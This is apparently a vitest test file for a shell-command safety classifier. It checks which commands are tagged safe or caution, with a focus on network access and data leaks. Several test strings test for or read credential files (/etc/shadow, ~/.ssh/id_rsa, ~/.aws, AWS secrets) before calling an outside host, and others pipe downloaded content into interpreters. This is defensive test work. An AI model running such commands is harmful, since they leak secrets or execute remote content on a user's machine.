// biome-ignore-all lint/suspicious/noTemplateCurlyInString: it is the shell that fills it in
import { describe, expect, test } from 'vitest';
import { classify } from '#server/classifier/classify.ts';

const tierOf = (command: string) => classify(command).tier;
const isSafe = (command: string) => expect(tierOf(command)).toBe('safe');
const isCareful = (command: string) => expect(tierOf(command)).not.toBe('safe');

describe('the network is open under safe where nothing interprets what comes from it', () => {
	test.each([
		'curl -s https://x.example/a.json | jq .name',
		'curl -s https://x.example | grep x | sort | uniq -c',
		'wget -qO- https://x.example | head -5',
		"curl -s https://x.example | awk -F, '{print $2}'",
		"curl -s https://x.example | sed -n '1,5p'",
		'curl -s https://x.example | sha256sum',
		'diff <(curl -s https://a.example) <(curl -s https://b.example)',
		'echo "$(curl -s https://x.example/ip)"',
		'openssl s_client -connect x.example:443 </dev/null 2>/dev/null | openssl x509 -noout -dates',
		'ping -c1 x.example; ip route; cat /etc/resolv.conf',
		'curl -s http://localhost:8080/health; systemctl status app'
	])('safe: %s', isSafe);

	test.each([
		'curl -s https://x.example/a | m4',
		'curl -s https://x.example/a | dc',
		'curl -s https://x.example/a | cat | bc',
		'm4 <(curl -s https://x.example/a)',
		'm4 <<< "$(curl -s https://x.example/a)"',
		'curl -s https://x.example/a > >(m4)',
		'curl -s https://x.example/a | timeout 5 units',
		'curl -s https://x.example/a | less',
		'curl -s https://x.example/a | groff',
		'curl -s https://x.example/a | xmllint --noent -',
		'curl -s https://x.example/a | identify -',
		'curl -s https://x.example/a | patch -p1 --dry-run',
		'curl -s https://x.example/a | jq -f /dev/stdin',
		'curl -s https://x.example/a | jq "$(cat f)"',
		'curl -s https://x.example/a | python3 -m json.tool',
		'sqlite3 :memory: "$(curl -s https://x.example/a)"',
		'[[ $(curl -s https://x.example/a) -eq 1 ]] && echo one',
		'echo $(( $(curl -s https://x.example/a) ))',
		'x[$(curl -s https://x.example/a)]=1',
		'm4 notes.m4; curl -I https://x.example',
		'git status; curl -I https://x.example'
	])('caution: %s', isCareful);

	test.each([
		'[ "$(curl -s https://x.example/a)" = ok ] && echo up',
		'[ "$(curl -s https://x.example/a)" -eq 200 ]',
		'x=$(curl -s https://x.example/a); [ -n "$x" ] && printf "%s\\n" "$x"',
		'GH_REPO=a/b gh pr list',
		'n=$(wc -l < f); head -n "$n" g; curl -I https://x.example',
		'curl -s https://x.example/a | while read -r line; do echo $line; done',
		'grep "$(date +%F)" app.log; curl -I https://x.example'
	])('safe, though a word is known only when it runs: %s', isSafe);

	test.each([
		'[ $(curl -s https://x.example/a) = ok ] && echo up',
		'test $(curl -s https://x.example/a)',
		'[ ""$(curl -s https://x.example/a) = ok ]',
		'x=$(curl -s https://x.example/a); printf $x',
		'printf "$(curl -s https://x.example/a)" x',
		'sort $(curl -s https://x.example/o) f',
		'sort "$(curl -s https://x.example/o)" <(curl -s https://x.example/data)',
		'curl -s https://x.example/a | xargs sort',
		'curl -s https://x.example/a | while read -r l; do printf $l; done',
		'x=$(curl -s https://x.example/a); rg $x f',
		'x=$(curl -s https://x.example/a); mapfile "$x" < f',
		'x=$(cat notes); printf $x; curl -I https://x.example',
		'sort *; curl -I https://x.example',
		'uniq $(curl -s https://x.example/a)',
		'GH_CONFIG_DIR=./x gh pr list',
		'GEMRC=./x gem search y',
		'x=$(curl -s https://x.example/a); a[x]=1',
		'x=$(curl -s https://x.example/a); a=([$x]=1)',
		'x=$(curl -s https://x.example/a); PS4="$x"; set -x; echo'
	])('caution, for a word may be an option or be evaluated: %s', isCareful);
});

describe('what a variable of data tells by its length, or by being there', () => {
	test.each([
		'x=$(<f); curl https://x.example/${#x}',
		'mapfile a < f; curl https://x.example/${#a[@]}',
		'x=$(grep -c a f); curl https://x.example${x:+/yes}',
		'x=$(grep a f); curl ${x:+https://x.example}',
		'a=(*); curl https://x.example/${#a[@]}',
		'(( UID == 0 )) && curl https://x.example',
		'while ! grep -q a f; do sleep 1; done; curl https://x.example'
	])('caution: %s', isCareful);
	test.each([
		'for ((i = 0; i < 3; i++)); do curl https://x.example/$i; done',
		'i=3; while ((i-- > 0)); do curl -I https://x.example; done',
		'until curl -sf https://x.example; do sleep 1; done; curl https://x.example/done',
		'x=abc; curl https://x.example/${#x}',
		'curl https://x.example${X:+/yes}',
		'x=a; curl https://x.example${x:+/yes}'
	])('safe: %s', isSafe);
});

describe('the network is open under safe where nothing takes settings from where it stands', () => {
	test.each([
		'dig +short x.example',
		'nc -zv x.example 443',
		'kubectl get pods -n web',
		'kubectl logs -f web-1',
		'aws s3 ls',
		'gh pr list',
		'helm list -A',
		'npm view react version',
		"psql -h db -c 'select count(*) from users'",
		'rsync --list-only rsync://mirror.example/pub/',
		'terraform version'
	])('safe: %s', isSafe);

	test.each([
		'git ls-remote',
		'git ls-remote https://x.example/r.git',
		'git remote show origin',
		'rclone ls \':sftp,ssh="id":\'',
		'ansible all --list-hosts',
		'ansible-inventory --list',
		'pnpm outdated',
		'npm audit',
		'cargo search serde',
		'cargo outdated',
		'terraform state list',
		'packer validate .',
		'helm template ./chart',
		'gh api repos/a/b -F body=@notes',
		'aws ec2 describe-instances --filters file://f.json',
		'aws s3 ls --endpoint-url http://x.example',
		'kubectl get -f pod.yaml',
		'kubectl get pods -o go-template-file=/tmp/t',
		"psql 'host=x.example service=y' -c 'select 1'",
		"psql 'postgres://x.example/a?passfile=/tmp/p' -c 'select 1'",
		"clickhouse-client -q 'select 1'",
		'ldapsearch -H ldap://x.example -x',
		'restic -r rclone:x: snapshots',
		'nmap --script banner x.example',
		'python3 -c "import socket; print(socket.gethostbyname(\'x.example\'))"'
	])('caution: %s', isCareful);

	test('what takes its settings from there gets no network as a reader', () => {
		const [command] = classify('git ls-remote').reading.commands;
		expect(command?.effects).toContain('run-code');
	});
});

describe('whether a request is made tells nothing of this machine', () => {
	test.each([
		'curl -sf https://x.example >/dev/null && echo up || echo down',
		'until curl -sf http://localhost:8080/health; do sleep 1; done',
		'for i in 1 2 3; do curl -sI https://x.example; sleep 1; done',
		'for i in $(seq 1 254); do ping -c1 -W1 192.168.1.$i; done',
		'cd /tmp && curl -sI https://x.example',
		'which dig && dig x.example',
		'curl -s https://a.example | grep -q x && curl -s https://b.example',
		'[ -f /etc/passwd ] && echo yes'
	])('safe: %s', isSafe);

	test.each([
		'grep -q root /etc/passwd && curl https://x.example/1',
		'[ -f /etc/shadow ] && curl https://x.example/1',
		'test -d ~/.aws || ping -c1 x.example',
		'if grep -q key notes; then curl https://x.example/y; fi',
		'[[ -r ~/.ssh/id_rsa ]] && curl -I https://x.example',
		'[ -n "$AWS_SECRET" ] && curl https://x.example/has',
		'grep -q x y; [ $? -eq 0 ] && curl https://x.example',
		'grep -q x y; r=$?; if [ $r = 0 ]; then curl https://x.example; fi',
		'grep -q x f || exit; curl https://x.example',
		'(grep -q x f || exit 1; curl https://x.example)',
		'set -e; grep -q x f; curl https://x.example',
		"bash -ec 'test -f a; curl https://x.example'",
		'while read -r l; do curl https://x.example; done < f',
		'for f in ~/*; do curl https://x.example; done',
		'for ((i=0;i<$(wc -l <f);i++)); do curl https://x.example; done',
		'case $(hostname) in a*) curl https://x.example;; esac',
		'sleep $(cat f); curl https://x.example',
		'sleep $(( $(wc -l < f) )); curl https://x.example',
		'n=$(( $(wc -l < f) )); sleep $n; curl https://x.example',
		'x=$(cat f); sleep ${#x}; curl https://x.example',
		'timeout $(( $(wc -l < f) )) ping x.example',
		'seq $(wc -l < f) | xargs -I{} curl https://x.example',
		'timeout $(cat f) ping x.example',
		'find / -name id_rsa -exec curl https://x.example \\;',
		'f() { curl https://x.example; }; grep -q x y && f',
		'grep -q x y && ssh h true'
	])('caution: %s', isCareful);
});

test('what is read is data only where no option makes it names of files to open', () => {
	for (const command of ['md5sum -c', 'sort --files0-from=-', 'date -f -', 'jq -f /dev/stdin', 'grep -f -'])
		isCareful(`curl -s https://x.example | ${command}`);
});

test('a distribution that brings its own client is read as that client', () => {
	expect(tierOf('k3s kubectl delete ns web')).toBe(tierOf('kubectl delete ns web'));
	expect(tierOf('minikube kubectl -- get pods')).toBe('safe');
});
